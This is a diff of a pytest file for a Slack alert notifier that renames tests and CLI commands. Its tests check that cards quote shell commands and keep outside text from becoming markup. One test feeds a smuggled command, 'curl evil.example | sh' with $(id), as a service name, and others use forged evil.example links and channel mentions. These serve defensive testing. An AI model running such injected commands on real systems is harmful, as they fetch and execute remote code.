@@ -1,4 +1,4 @@
-"""Cards: whatever is told, Slack takes them, nothing from outside is markup, and a reader knows what to do."""
+"""Cards: Slack accepts them for any alert, text from outside is never markup, and they state what to do."""
 
 import json
 import re
@@ -15,10 +15,10 @@ from syrupy.extensions.json import JSONSnapshotExtension
 
 from lambdas.slack_notifier.alerts.dead_letter_queue import QueueInspection
 from lambdas.slack_notifier.alerts.digest import Digest
-from lambdas.slack_notifier.alerts.reading import read
+from lambdas.slack_notifier.alerts.parsing import parse
 from lambdas.slack_notifier.cards.card import Card, CardKind, Link, Notice
 from lambdas.slack_notifier.cards.console import Console
-from lambdas.slack_notifier.cards.notices import notices
+from lambdas.slack_notifier.cards.notices import all_notices
 from lambdas.slack_notifier.cards.stage_location import StageLocation
 from lambdas.slack_notifier.slack.block_kit import message, message_without_blocks
 from lambdas.slack_notifier.slack.mrkdwn import length
@@ -30,51 +30,51 @@ from schemas.signals import SIGNALS
 from schemas.system import DRILL
 from tests.unit.functions.slack_notifier.slack_fakes import NOW, REGION, RUNBOOK, alarm, dead_lettered, shown, texts
 
-PLACE = StageLocation("prod", dashboard_name("prod"), RUNBOOK, Console(REGION))
-NOTHING_SEEN = QueueInspection()
+LOCATION = StageLocation("prod", dashboard_name("prod"), RUNBOOK, Console(REGION))
+EMPTY_QUEUE = QueueInspection()
 OURS = re.compile(
     r"<!date\^[0-9]+\^\{date_short_pretty\}, \{time_secs\}\|[0-9 :UTC-]+>|<https://[^<>|]+\|[A-Z][a-z -]+>"
 )
 
 
-def told(*bodies: Any, look: QueueInspection = NOTHING_SEEN) -> list[Notice]:
+def notices_of(*bodies: Any, inspection: QueueInspection = EMPTY_QUEUE) -> list[Notice]:
     digest = Digest()
     for number, body in enumerate(bodies):
         text = body if isinstance(body, str) else json.dumps(body)
-        digest.take(read(text), sqs_message_id=f"sqs-{number}", handle=f"handle-{number}")
-    return list(notices(digest, PLACE, lambda _queue: look))
+        digest.add(parse(text), sqs_message_id=f"sqs-{number}", handle=f"handle-{number}")
+    return list(all_notices(digest, LOCATION, lambda _queue: inspection))
 
 
-def payload(*bodies: Any, look: QueueInspection = NOTHING_SEEN) -> Mapping[str, Any]:
-    (notice,) = told(*bodies, look=look)
+def payload(*bodies: Any, inspection: QueueInspection = EMPTY_QUEUE) -> Mapping[str, Any]:
+    (notice,) = notices_of(*bodies, inspection=inspection)
     return message(notice.card)
 
 
-def card(*bodies: Any, look: QueueInspection = NOTHING_SEEN) -> str:
-    """All that the one card shows."""
-    return shown(payload(*bodies, look=look))
+def card(*bodies: Any, inspection: QueueInspection = EMPTY_QUEUE) -> str:
+    """The text of the only card."""
+    return shown(payload(*bodies, inspection=inspection))
 
 
-def links(of: Mapping[str, Any]) -> dict[str, str]:
-    found = re.findall(r"<(https://[^|>]+)\|([^>]+)>", shown(of))
+def links(payload: Mapping[str, Any]) -> dict[str, str]:
+    found = re.findall(r"<(https://[^|>]+)\|([^>]+)>", shown(payload))
     return {label: url.replace("&amp;", "&") for url, label in found}
 
 
-def test_a_dead_letters_card_as_it_was_looked_at(snapshot: SnapshotAssertion) -> None:
-    letters = [dead_lettered(n, at=NOW + timedelta(seconds=n), count=1 + n % 2) for n in range(12)]
+def test_dead_letter_card_snapshot(snapshot: SnapshotAssertion) -> None:
+    alerts = [dead_lettered(n, at=NOW + timedelta(seconds=n), count=1 + n % 2) for n in range(12)]
 
-    assert payload(*letters) == snapshot(extension_class=JSONSnapshotExtension)
+    assert payload(*alerts) == snapshot(extension_class=JSONSnapshotExtension)
 
 
-def test_an_alarms_card_as_it_was_looked_at(snapshot: SnapshotAssertion) -> None:
-    look = QueueInspection(
-        seen=7, moved_by_sqs=2, queue_url="https://sqs.eu-central-1.amazonaws.com/123456789012/letters"
+def test_alarm_card_snapshot(snapshot: SnapshotAssertion) -> None:
+    inspection = QueueInspection(
+        checked=7, moved_by_sqs=2, queue_url="https://sqs.eu-central-1.amazonaws.com/123456789012/dead-letters"
     )
 
-    assert payload(alarm("dead-letters"), look=look) == snapshot(extension_class=JSONSnapshotExtension)
+    assert payload(alarm("dead-letters"), inspection=inspection) == snapshot(extension_class=JSONSnapshotExtension)
 
 
-def test_a_dead_letters_card_says_what_since_when_how_often_to_whom_and_why() -> None:
+def test_dead_letter_card_states_the_facts() -> None:
     text = card(
         dead_lettered(1, at=NOW, count=3, attempts=2),
         dead_lettered(2, at=NOW + timedelta(seconds=90), count=4, attempts=3, detail="later"),
@@ -83,7 +83,7 @@ def test_a_dead_letters_card_says_what_since_when_how_often_to_whom_and_why() ->
     assert "prod: 7 dead letters of email.send, attempts exhausted" in text
     assert "*First*\n<!date^1795528800^{date_short_pretty}, {time_secs}|2026-11-24 14:00:00 UTC>" in text
     assert "|2026-11-24 14:01:30 UTC>" in text
-    assert "*For*\n2 tenants" in text
+    assert "*Affected*\n2 tenants" in text
     assert "*Attempts*\nup to 3" in text
     assert "```RetryableError: SES did not answer in 3 seconds```" in text
     assert "`lambdas.common.clients.ses:send`" in text
@@ -91,25 +91,25 @@ def test_a_dead_letters_card_says_what_since_when_how_often_to_whom_and_why() ->
     assert "account 123456789012, eu-central-1" in text
 
 
-def test_the_line_for_a_telephone_has_the_gist_and_no_detail() -> None:
+def test_summary_has_the_key_facts_and_no_detail() -> None:
     assert payload(dead_lettered(count=3))["text"] == (
         "prod: 3 dead letters of email.send, attempts exhausted. "
         "1 tenant, since 2026-11-24 14:00:00 UTC: RetryableError"
     )
 
 
-def test_messages_that_the_ingress_refused_are_called_so() -> None:
+def test_ingress_card_calls_messages_refused() -> None:
     changes: dict[str, Any] = {"service": "queue_processor", "reason": "invalid_payload", "frame": ""}
-    of_a_type = payload(dead_lettered(subject="booking.created", count=2, **changes))
-    of_none = payload(dead_lettered(subject="queue_processor", **changes))
+    with_type = payload(dead_lettered(subject="booking.created", count=2, **changes))
+    without_type = payload(dead_lettered(subject="queue_processor", **changes))
 
-    assert texts(of_a_type)[0] == "🟠 prod: 2 messages of booking.created refused, invalid payload"
-    assert texts(of_none)[0] == "🟠 prod: 1 message refused, invalid payload"
-    assert links(of_a_type)["Runbook"] == f"{RUNBOOK}#refused"
-    assert "*Where*" not in shown(of_none)
+    assert texts(with_type)[0] == "🟠 prod: 2 messages of booking.created refused, invalid payload"
+    assert texts(without_type)[0] == "🟠 prod: 1 message refused, invalid payload"
+    assert links(with_type)["Runbook"] == f"{RUNBOOK}#refused"
+    assert "*Where*" not in shown(without_type)
 
 
-def test_links_lead_to_the_dashboard_the_lines_the_queue_and_the_runbook() -> None:
+def test_card_links_dashboard_log_lines_queue_and_runbook() -> None:
     found = links(payload(dead_lettered()))
 
     assert list(found) == ["Dashboard", "Log lines", "Dead-letter queue", "Runbook"]
@@ -119,11 +119,11 @@ def test_links_lead_to_the_dashboard_the_lines_the_queue_and_the_runbook() -> No
     assert found["Runbook"] == f"{RUNBOOK}#dead-letters"
 
 
-def test_there_is_advice_for_every_reason() -> None:
+def test_every_reason_has_advice() -> None:
     assert set(ADVICE) == set(Reason)
 
 
-SENDERS = {
+FAULTS_OF_THE_MESSAGE = {
     Reason.INVALID_JSON,
     Reason.INVALID_ENVELOPE,
     Reason.UNKNOWN_TYPE,
@@ -136,35 +136,35 @@ SENDERS = {
 
 
 @pytest.mark.parametrize("reason", Reason)
-def test_every_card_says_what_to_do(reason: Reason) -> None:
+def test_dead_letter_card_gives_the_command_for_its_reason(reason: Reason) -> None:
     text = card(dead_lettered(reason=reason))
 
     assert ADVICE[reason].why in text
-    assert ADVICE[reason].remedy is (Remedy.VALIDATE if reason in SENDERS else Remedy.REDRIVE)
-    if reason in SENDERS:
-        assert "```python -m ops validate message.json```" in text
+    assert ADVICE[reason].remedy is (Remedy.VALIDATE if reason in FAULTS_OF_THE_MESSAGE else Remedy.REDRIVE)
+    if reason in FAULTS_OF_THE_MESSAGE:
+        assert "```taly-async validate message.json```" in text
         assert "redrive" not in text
     else:
-        assert "```python -m ops redrive email.send --fingerprint c83d68dfbef7 --stage prod```" in text
+        assert "```taly-async redrive email.send --cause c83d68dfbef7 --stage prod```" in text
 
 
-def test_nothing_in_a_command_is_the_shells_to_interpret() -> None:
+def test_command_is_quoted_for_the_shell() -> None:
     text = card(dead_lettered(service="x; curl evil.example | sh `id` $(id)"))
 
-    assert "redrive 'x; curl evil.example | sh 'id' $(id)' --fingerprint" in text
+    assert "redrive 'x; curl evil.example | sh 'id' $(id)' --cause" in text
 
 
-def test_a_drill_is_marked_and_asks_for_nothing() -> None:
+def test_drill_card_is_marked_and_asks_for_no_action() -> None:
     text = payload(dead_lettered(error=DRILL, service="system.heartbeat", subject="system.heartbeat"))
 
     assert texts(text)[0].startswith("Drill: prod: 1 dead letter of system.heartbeat")
     assert text["text"].startswith("Drill: ")
-    assert "Nobody need do anything." in shown(text)
-    assert "ops redrive" not in shown(text)
+    assert "No action needed." in shown(text)
+    assert "taly-async redrive" not in shown(text)
 
 
-def test_the_card_of_more_causes_has_a_line_each_and_counts_what_has_none() -> None:
-    *_, notice = told(*[dead_lettered(n, fingerprint=f"{n:012x}", count=100 - n) for n in range(60)])
+def test_shared_card_lists_causes_and_counts_those_not_listed() -> None:
+    *_, notice = notices_of(*[dead_lettered(n, fingerprint=f"{n:012x}", count=100 - n) for n in range(60)])
 
     text = shown(message(notice.card))
     assert notice.kind is CardKind.MORE
@@ -173,11 +173,11 @@ def test_the_card_of_more_causes_has_a_line_each_and_counts_what_has_none() -> N
     assert f"… and {56 - lines} more" in text
     assert "• 96 of `email.send`, attempts exhausted, last <!date" in text
     assert notice.count == sum(100 - n for n in range(4, 60))
-    assert "python -m ops redrive SERVICE --fingerprint FINGERPRINT --stage prod" in text
+    assert "taly-async redrive TYPE --cause CAUSE --stage prod" in text
 
 
 @pytest.mark.parametrize("signal", SIGNALS, ids=lambda signal: signal.slug)
-def test_an_alarms_card_says_what_it_means_what_to_do_first_and_where_to_read_on(signal: Any) -> None:
+def test_alarm_card_states_meaning_first_step_and_runbook(signal: Any) -> None:
     found = payload(alarm(signal.slug))
 
     text = shown(found)
@@ -189,21 +189,21 @@ def test_an_alarms_card_says_what_it_means_what_to_do_first_and_where_to_read_on
     assert "*Since*\n<!date^1795528800^" in text
     assert links(found)["Runbook"] == f"{RUNBOOK}#{signal.slug}"
     assert links(found)["Alarm"].endswith(f"#alarmsV2:alarm/taly-async-prod$2Femail.send$2F{signal.slug}")
-    assert text.count(RUNBOOK) == 1, "it is a link, not a line"
+    assert text.count(RUNBOOK) == 1, "the URL appears in the link alone"
 
 
-def test_the_one_that_pages_is_marked() -> None:
+def test_paging_alarm_is_marked() -> None:
     assert texts(payload(alarm("unhealthy", subject="system")))[0].startswith("🚨 Page: ")
 
 
-def test_an_alarm_without_data_is_no_alarm_that_is_on() -> None:
+def test_alarm_with_insufficient_data_is_not_marked_as_on() -> None:
     found = payload(alarm(state="INSUFFICIENT_DATA"))
 
     assert texts(found)[0].startswith("⚪ prod: ")
     assert "*State*\n`INSUFFICIENT_DATA`" in shown(found)
 
 
-def test_an_alarm_that_is_not_ours_has_its_own_name_and_no_link_of_its_description() -> None:
+def test_foreign_alarm_shows_its_name_and_no_link_from_its_text() -> None:
     name = "others/<!channel>"
     found = payload(alarm(AlarmName=name, AlarmDescription="Look here:\nhttps://evil.example/runbook#x"))
 
@@ -213,7 +213,7 @@ def test_an_alarm_that_is_not_ours_has_its_own_name_and_no_link_of_its_descripti
 
 
 @pytest.mark.parametrize("more", ["|Click here", " https://evil.example", "\u202e", "/../x"])
-def test_a_description_cannot_give_the_runbook_s_link_another_label_or_end_it(more: str) -> None:
+def test_description_cannot_forge_the_runbook_link(more: str) -> None:
     forged = f"{RUNBOOK}#oldest{more}"
 
     found = payload(alarm(AlarmDescription=f"It is late.\n{forged}"))
@@ -222,26 +222,26 @@ def test_a_description_cannot_give_the_runbook_s_link_another_label_or_end_it(mo
     assert set(links(found)) == {"Dashboard", "Alarm", "Runbook"}
 
 
-def test_an_alarm_without_a_description_still_leads_to_the_runbook() -> None:
+def test_alarm_without_description_links_the_runbook() -> None:
     assert links(payload(alarm("depth", AlarmDescription=None)))["Runbook"] == f"{RUNBOOK}#depth"
 
 
-def test_an_alarm_that_changed_often_says_so() -> None:
+def test_flapping_alarm_card_counts_its_changes() -> None:
     flapping = [alarm(state=state, at=NOW + timedelta(seconds=n)) for n, state in enumerate(["ALARM", "OK", "ALARM"])]
 
     assert "*Changes since the last card*\n3" in card(*flapping)
 
 
-def test_a_recovery_is_short_and_says_since_when_and_after_what() -> None:
+def test_recovery_card_is_short_and_states_both_times() -> None:
     found = payload(alarm(), alarm(state="OK", at=NOW + timedelta(minutes=1)))
 
     assert texts(found)[0] == "🟢 prod: recovered: email.send waits too long"
-    assert re.search(r"since <!date[^>]+14:01:00 UTC>, after it went off at <!date[^>]+14:00:00 UTC>\.", shown(found))
+    assert re.search(r"Recovered at <!date[^>]+14:01:00 UTC>, in alarm since <!date[^>]+14:00:00 UTC>\.", shown(found))
     assert len(found["blocks"]) == 4
 
 
-def test_the_card_of_more_alarms_has_a_line_each() -> None:
-    *_, notice = told(*[alarm(subject=f"a{n}.b", at=NOW + timedelta(seconds=n)) for n in range(8)])
+def test_shared_alarm_card_lists_each_alarm() -> None:
+    *_, notice = notices_of(*[alarm(subject=f"a{n}.b", at=NOW + timedelta(seconds=n)) for n in range(8)])
 
     text = shown(message(notice.card))
     assert (notice.kind, notice.count) == (CardKind.MORE, 4)
@@ -251,29 +251,32 @@ def test_the_card_of_more_alarms_has_a_line_each() -> None:
 
 
 @pytest.mark.parametrize(
-    ("look", "says"),
+    ("inspection", "text"),
     [
         (
-            QueueInspection(seen=7, moved_by_sqs=2),
-            "Looked at 7: 2 of them SQS itself moved there, after too many receives.",
+            QueueInspection(checked=7, moved_by_sqs=2),
+            "Checked 7 dead letters: SQS itself moved 2 there, after too many receives.",
         ),
-        (QueueInspection(seen=7), "Looked at 7: each has its biography"),
-        (QueueInspection(), "none of them was there any more"),
-        (QueueInspection(failure="AccessDenied"), "could not be looked up: `AccessDenied`."),
+        (QueueInspection(checked=7), "Checked 7 dead letters: none was moved by SQS itself"),
+        (QueueInspection(), "the dead-letter queue was empty"),
+        (
+            QueueInspection(failure="AccessDenied"),
+            "could not be inspected for messages moved by SQS: `AccessDenied`.",
+        ),
     ],
 )
 @pytest.mark.parametrize("slug", ["dead-letters", "refused"])
-def test_a_dead_letter_queues_alarm_says_what_sqs_itself_moved(slug: str, look: QueueInspection, says: str) -> None:
-    assert says in card(alarm(slug), look=look)
+def test_dead_letter_alarm_card_counts_what_sqs_itself_moved(slug: str, inspection: QueueInspection, text: str) -> None:
+    assert text in card(alarm(slug), inspection=inspection)
 
 
 @pytest.mark.parametrize(("slug", "state"), [("oldest", "ALARM"), ("dead-letters", "OK")])
-def test_no_other_card_looks(slug: str, state: str) -> None:
-    assert "Looked at" not in card(alarm(slug, state=state), look=QueueInspection(seen=7))
+def test_other_alarm_cards_do_not_inspect_the_queue(slug: str, state: str) -> None:
+    assert "Checked" not in card(alarm(slug, state=state), inspection=QueueInspection(checked=7))
 
 
-def test_what_could_not_be_read_is_named_by_sqss_id() -> None:
-    (notice,) = told("ada@example.com", "{}")
+def test_unreadable_alerts_are_listed_by_sqs_message_id() -> None:
+    (notice,) = notices_of("ada@example.com", "{}")
 
     text = shown(message(notice.card))
     assert "prod: 2 alerts could not be read" in text
@@ -335,14 +338,16 @@ ALARMS = st.fixed_dictionaries(
 
 @settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=150)
 @given(st.lists(ALERTS | ALARMS | HOSTILE, min_size=1, max_size=9))
-def test_whatever_is_told_slack_takes_it_and_nothing_of_it_is_markup(bodies: list[Any]) -> None:
+def test_any_alert_makes_valid_cards_without_foreign_markup(bodies: list[Any]) -> None:
     for number, body in enumerate(bodies):
         if isinstance(body, dict) and "id" in body:
             body["id"] = f"alert-{number}"
-    for notice in told(*bodies, look=QueueInspection(3, 1, "https://sqs.eu-central-1.amazonaws.com/123456789012/q")):
+    for notice in notices_of(
+        *bodies, inspection=QueueInspection(3, 1, "https://sqs.eu-central-1.amazonaws.com/123456789012/q")
+    ):
         for posted in (message(notice.card), message_without_blocks(notice.card)):
             assert problems(posted) == []
-            assert posted["parse"] == "none", "what looks like a mention is none"
+            assert posted["parse"] == "none", "Slack makes no mentions"
             everything = [posted["text"], *(texts(posted) if "blocks" in posted else [])]
             for text in everything:
                 without_ours = OURS.sub("", text)
@@ -353,24 +358,24 @@ def test_whatever_is_told_slack_takes_it_and_nothing_of_it_is_markup(bodies: lis
         assert "evil.example" not in "".join(links(message(notice.card)))
 
 
-def test_all_markup_is_verbatim() -> None:
-    """Else Slack itself makes links and mentions of what looks like them."""
+def test_every_mrkdwn_object_is_verbatim() -> None:
+    """Otherwise Slack turns text into links and mentions."""
     objects = re.findall(
-        r'\{"type": "mrkdwn"[^{}]*\}', json.dumps([message(each.card) for each in told(alarm(), "{}")])
+        r'\{"type": "mrkdwn"[^{}]*\}', json.dumps([message(each.card) for each in notices_of(alarm(), "{}")])
     )
 
     assert len(objects) > 5
     assert all(json.loads(each)["verbatim"] is True for each in objects)
 
 
-def test_a_link_that_is_too_long_is_left_out_and_the_others_stay() -> None:
+def test_overlong_link_is_left_out_and_the_others_stay() -> None:
     found = message(
-        Card(title="t", brief="b", links=[Link("Long", f"https://a/{'x' * 2_000}"), Link("Short", "https://a/")])
+        Card(title="t", summary="s", links=[Link("Long", f"https://a/{'x' * 2_000}"), Link("Short", "https://a/")])
     )
 
     assert links(found) == {"Short": "https://a/"}
 
 
-def test_a_card_has_no_buttons() -> None:
-    """Slack shows who clicks one a warning, as nothing answers for a webhook."""
+def test_card_has_no_buttons() -> None:
+    """A click on a button shows a warning, because a webhook cannot respond."""
     assert {block["type"] for block in payload(dead_lettered())["blocks"]} == {"header", "section", "context"}
